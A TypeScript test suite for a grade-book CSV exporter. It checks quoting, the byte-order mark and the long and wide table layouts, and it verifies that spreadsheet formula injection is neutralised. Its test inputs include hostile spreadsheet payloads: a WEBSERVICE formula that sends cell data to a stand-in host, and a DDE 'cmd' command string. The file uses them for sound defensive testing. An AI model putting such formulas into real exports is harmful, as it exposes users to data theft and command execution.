import { parse } from "csv-parse/sync";
import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { longTable } from "../../src/export/csv-long.ts";
import { csvText } from "../../src/export/csv-text.ts";
import { wideTable } from "../../src/export/csv-wide.ts";
import type { GradeBook } from "../../src/export/grade-book.ts";
import { sampleGradeBook } from "./sample-grade-book.ts";

function readBack(text: string): string[][] {
  return parse(text, { bom: true, relax_quotes: false });
}

describe("csvText", () => {
  test("writes RFC 4180 with numbers that stay numbers", () => {
    const table = {
      columns: ["a", "b,c"],
      rows: [
        ["x\ny", -2],
        ['say "no"', undefined],
        [" pad", 0.5],
      ],
    };
    expect(csvText(table)).toBe('a,"b,c"\r\n"x\ny",-2\r\n"say ""no""",\r\n" pad",0.5\r\n');
  });

  test("begins with a byte-order mark for Excel where asked", () => {
    const bytes = Buffer.from(csvText({ columns: ["ä"], rows: [] }, { bom: true }));
    expect([...bytes]).toEqual([0xef, 0xbb, 0xbf, 0xc3, 0xa4, 0x0d, 0x0a]);
  });

  test.each([
    ['=WEBSERVICE("http://a.example/"&A1)', `'=WEBSERVICE("http://a.example/"&A1)`],
    ["+1+1", "'+1+1"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["-2", "'-2"],
    ["@SUM(1)", "'@SUM(1)"],
    ["\t=1", "' =1"],
    ["\r=1", "<U+000D>=1"],
    ["  =1", "'  =1"],
    ['"=1', `'"=1`],
    ["“＝1", "'“＝1"],
    ["＝1+1", "'＝1+1"],
    ["＋1", "'＋1"],
    ["－1", "'－1"],
    ["＠A", "'＠A"],
    ['fine, "quoted"\n=1+1\n\n  @x', `fine, "quoted"\n'=1+1\n\n'  @x`],
    ["\u200B=1", "<U+200B>=1"],
    ["\u202E1=", "<U+202E>1="],
    ["a=b", "a=b"],
    ["x\ty", "x y"],
    ["x;=1+1", "x;'=1+1"],
    ["cheap; -5 a month; or more;", "cheap;' -5 a month; or more;"],
    ['x;"=1";;@A', `x;'"=1";;'@A`],
    ["one; two, -3 and 4=4", "one; two, -3 and 4=4"],
  ])("makes %j inert", (given, expected) => {
    expect(readBack(csvText({ columns: ["text", "n"], rows: [[given, 1]] }))).toEqual([
      ["text", "n"],
      [expected, "1"],
    ]);
  });

  test("no line of any cell begins like a formula, and no cell becomes two", () => {
    const spice = fc.constantFrom(
      "=",
      "+",
      "-",
      "@",
      "＝",
      "\t",
      "\n",
      "\r",
      '"',
      "'",
      ",",
      " ",
      "\u00A0",
      "\u202E",
      "a",
    );
    fc.assert(
      fc.property(fc.array(spice, { maxLength: 12 }), (parts) => {
        const [, row] = readBack(csvText({ columns: ["a", "b"], rows: [[parts.join(""), 7]] }));
        expect(row?.[1]).toBe("7");
        for (const line of row?.[0]?.split("\n") ?? []) {
          expect(line).not.toMatch(/^[\s"“”]*[=+\-@\t＝]/u);
          expect(line).not.toMatch(/[\u0000-\u001F\u007F-\u009F\u202A-\u202E]/u);
        }
      }),
    );
  });
});

/** Fields as a reader finds them that knows one separator, whatever the file was written with; with quotes and without. */
function fieldsFor(text: string, delimiter: string): readonly string[] {
  const options = { bom: true, delimiter, relax_quotes: true, relax_column_count: true };
  if (delimiter === ",") return parse(text, options).flat();
  return [...parse(text, { ...options, quote: false }).flat(), ...quotedFields(text, options)];
}

function plain(cell: string): string {
  return cell.replace(/'/g, "").replaceAll("\t", " ");
}

/** None where the quotes are not in pairs for such a reader. */
function quotedFields(text: string, options: object): readonly string[] {
  try {
    return parse(text, options).flat();
  } catch {
    return [];
  }
}

describe("read by commas, semicolons or tabs", () => {
  test("no field begins like a formula, numbers of ours aside, and by commas every cell is what it was but for marks", () => {
    const text = fc
      .array(fc.constantFrom("=1", "-", "+", "@A", "＝", ";", ",", "\t", "\n", '"', "'", " ", "a", "5 %"), {
        maxLength: 10,
      })
      .map((parts) => parts.join(""));
    const rows = fc.array(fc.tuple(text, text, fc.integer({ min: -9, max: 9 }), text), { minLength: 1, maxLength: 4 });
    fc.assert(
      fc.property(rows, (given) => {
        const csv = csvText({ columns: ["a", "b", "c", "d"], rows: given }, { bom: true });
        for (const delimiter of [",", ";", "\t"]) {
          const risky = fieldsFor(csv, delimiter)
            .flatMap((field) => field.split("\n"))
            .filter((line) => /^[\s"]*[=+\-@＝]/u.test(line) && !(delimiter === "," && /^-\d$/.test(line)));
          expect({ delimiter, risky }).toEqual({ delimiter, risky: [] });
        }
        expect(
          readBack(csv)
            .slice(1)
            .map((row) => row.map(plain)),
        ).toEqual(given.map((row) => row.map((cell) => plain(String(cell)))));
      }),
      { numRuns: 300 },
    );
  });
});

/** Two candidates, one question: an overridden mark beside an answer that waits. */
function smallBook(): GradeBook {
  const book = sampleGradeBook({ candidates: 4, questions: 3, isHostile: false });
  const wanted = new Set(["c-002 q-000000000002", "c-004 q-000000000003", "c-001 q-000000000001"]);
  return {
    ...book,
    grades: book.grades.filter(({ current }) => wanted.has(`${current.candidate} ${current.question}`)),
  };
}

describe("longTable", () => {
  test("has a row a criterion; marks that do not count stand in a column of their own", () => {
    const { columns, rows } = longTable(smallBook());
    const shown = [
      "candidate",
      "number",
      "criterion",
      "level",
      "points",
      "max",
      "state",
      "mark",
      "provisional",
      "calibrated",
      "mark_before",
      "override_by",
    ];
    expect(rows.map((row) => shown.map((name) => row[columns.indexOf(name)] ?? "").join(" | "))).toMatchInlineSnapshot(`
      [
        "c-001 | 1 | lookup | part | 1 | 2 | graded | 3 |  | 2.7 |  | ",
        "c-001 | 1 | writes | part | 1 | 2 | graded | 3 |  | 2.7 |  | ",
        "c-001 | 1 | space | full | 1 | 1 | graded | 3 |  | 2.7 |  | ",
        "c-001 | 1 | selectivity | none | 0 | 1 | graded | 3 |  | 2.7 |  | ",
        "c-002 | 2 | memory | full | 2 | 2 | needs-review |  | 4 |  |  | ",
        "c-002 | 2 | cost | none | 0 | 1 | needs-review |  | 4 |  |  | ",
        "c-002 | 2 | failure | full | 2 | 2 | needs-review |  | 4 |  |  | ",
        "c-002 | 2 | parallel | none | 0 | -1 | needs-review |  | 4 |  |  | ",
        "c-004 | 3 | key | none | 0 | 3 | overridden | 2 |  |  | 1 | r.lee",
        "c-004 | 3 | store | part | 1 | 3 | overridden | 2 |  |  | 1 | r.lee",
        "c-004 | 3 | reply | none | 0 | 2 | overridden | 2 |  |  | 1 | r.lee",
      ]
    `);
  });

  test("has a row for an answer without a verdict, so that none is missing", () => {
    const { columns, rows } = longTable(sampleGradeBook());
    const at = (name: string): number => columns.indexOf(name);
    const empty = rows.filter((row) => row[at("criterion")] === undefined);
    expect(empty.map((row) => [row[at("candidate")], row[at("state")], row[at("mark")], row[at("reason")]])).toEqual([
      ["c-001", "blank", undefined, "nothing was handed in"],
      ["c-002", "error", undefined, "the endpoint failed three times (status 503)"],
      ["c-003", "refused", undefined, "the model declined to judge this answer"],
      ["c-009", "blank", undefined, "nothing was handed in"],
    ]);
  });

  test("reads back cell by cell, hostile answers and findings among them", () => {
    const table = longTable(sampleGradeBook());
    const back = readBack(csvText(table, { bom: true }));
    expect([back[0], back.length]).toEqual([table.columns, table.rows.length + 1]);
    expect(back.flat().filter((cell) => /^[=+@]|^-\D/.test(cell))).toEqual([]);
    const findings = back.map((row) => row[table.columns.indexOf("findings")] ?? "");
    expect(findings.filter((text) => text.includes("heading")).map((text) => text.slice(-15))).toEqual([
      "# heading\n'=1+1",
    ]);
  });
});

describe("wideTable", () => {
  test("has a row a candidate with totals over what counts and every state counted", () => {
    const { columns, rows } = wideTable(smallBook());
    expect([columns, ...rows].map((row) => row.map((cell) => cell ?? "").join(" | "))).toMatchInlineSnapshot(`
      [
        "candidate | Q1 q-000000000001 | Q1 q-000000000001:state | Q1 q-000000000001:provisional | Q1 q-000000000001.lookup | Q1 q-000000000001.writes | Q1 q-000000000001.space | Q1 q-000000000001.selectivity | Q2 q-000000000002 | Q2 q-000000000002:state | Q2 q-000000000002:provisional | Q2 q-000000000002.memory | Q2 q-000000000002.cost | Q2 q-000000000002.failure | Q2 q-000000000002.parallel | Q3 q-000000000003 | Q3 q-000000000003:state | Q3 q-000000000003:provisional | Q3 q-000000000003.key | Q3 q-000000000003.store | Q3 q-000000000003.reply | total | total_max | counted | graded | overridden | needs_review | refused | error | blank | stale",
        "c-001 | 3 | graded |  | 1 | 1 | 1 | 0 |  |  |  |  |  |  |  |  |  |  |  |  |  | 3 | 6 | 1 | 1 | 0 | 0 | 0 | 0 | 0 | 0",
        "c-002 |  |  |  |  |  |  |  |  | needs-review | 4 | 2 | 0 | 2 | 0 |  |  |  |  |  |  |  | 0 | 0 | 0 | 0 | 1 | 0 | 0 | 0 | 0",
        "c-004 |  |  |  |  |  |  |  |  |  |  |  |  |  |  | 2 | overridden |  | 0 | 1 | 0 | 2 | 8 | 1 | 0 | 1 | 0 | 0 | 0 | 0 | 0",
      ]
    `);
  });

  test("an earlier attempt is in no column", () => {
    const book = sampleGradeBook({ candidates: 1, questions: 1, isHostile: false });
    const [first] = book.grades;
    if (first === undefined) throw new Error("the sample has no grade");
    const second = { ...first, current: { ...first.current, attempt: 2, mark: 1000 } };
    const { columns, rows } = wideTable({ ...book, grades: [second, first] });
    expect(["Q1 q-000000000001", "total", "counted", "graded"].map((name) => rows[0]?.[columns.indexOf(name)])).toEqual(
      [1, 1, 1, 1],
    );
  });
});
